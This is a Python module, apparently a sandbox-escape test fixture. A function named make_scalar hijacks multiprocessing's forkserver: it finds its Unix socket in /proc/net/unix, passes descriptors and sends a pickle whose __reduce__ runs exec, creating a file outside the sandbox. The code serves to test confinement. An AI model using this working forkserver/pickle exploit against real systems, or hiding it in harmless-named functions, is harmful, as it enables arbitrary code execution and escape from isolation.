"""make_scalar asks the process that makes children for a child of its own, and has it unpickle code.

Today that process is multiprocessing's forkserver: it listens on a named socket (``pymp-*/listener-*``,
listed in /proc/net/unix), takes four file descriptors from whoever connects, forks, and the new child
unpickles what arrives on the first one, outside every limit and confinement of the sandbox. The payload
creates TARGETS["escape_file"], which no sandboxed child can create. Only the sockets, named or abstract
(``@name``), that start with one of TARGETS["socket_prefixes"] are tried: those of the test's own run,
never another user's forkserver. The test replaces the TARGETS line.
"""

import os
import pickle
import select
import socket
import struct
from multiprocessing import reduction

TARGETS: dict = {}


def _listening_sockets() -> list[str]:
    """Unix sockets of the test's run, as /proc/net/unix lists them (the path is the eighth column)."""
    try:
        with open("/proc/net/unix") as table:
            rows = [line.split() for line in table.read().splitlines()[1:]]
    except OSError:
        return []
    paths = {row[7] for row in rows if len(row) > 7}
    return sorted(p for p in paths if any(p.startswith(prefix) for prefix in TARGETS["socket_prefixes"]))


class _Escape:
    """Unpickling this runs code in the process that unpickles it."""

    def __reduce__(self):
        code = f"import os\nwith open({TARGETS['escape_file']!r}, 'w') as f:\n    f.write(str(os.getpid()))\nos._exit(0)\n"
        return (exec, (code,))


def _read_int(fd: int) -> int:
    """A signed int the forkserver writes on the status pipe (a pid, then an exit code)."""
    data = b""
    while len(data) < 4:
        if not select.select([fd], [], [], 10)[0]:
            raise TimeoutError("no answer in 10 s")
        chunk = os.read(fd, 4 - len(data))
        if not chunk:
            raise EOFError("the status pipe closed")
        data += chunk
    return struct.unpack("i", data)[0]


def _ask_for_a_child(path: str) -> str:
    """Send the forkserver what multiprocessing sends it: the child's data pipe, a status pipe and two more
    descriptors; then the pickle. Returns what the forkserver answered."""
    data_r, data_w = os.pipe()
    status_r, status_w = os.pipe()
    null = os.open(os.devnull, os.O_RDWR)
    try:
        with socket.socket(socket.AF_UNIX) as client:
            client.settimeout(5)
            client.connect("\0" + path[1:] if path.startswith("@") else path)
            reduction.sendfds(client, [data_r, status_w, null, null])
    finally:
        for fd in (data_r, status_w, null):
            os.close(fd)
    with os.fdopen(data_w, "wb") as pipe:
        pipe.write(pickle.dumps(_Escape()))
    try:
        pid = _read_int(status_r)
        return f"the forkserver forked pid {pid}, which exited with {_read_int(status_r)}"
    finally:
        os.close(status_r)


def _try(path):
    try:
        return _ask_for_a_child(path)
    except (OSError, EOFError) as exc:
        return f"{type(exc).__name__}: {exc}"


def make_scalar(value):
    tried = [f"{path}: {_try(path)}" for path in _listening_sockets()]
    raise RuntimeError(f"forkserver attack: {'; '.join(tried) or 'no socket to connect to'}")
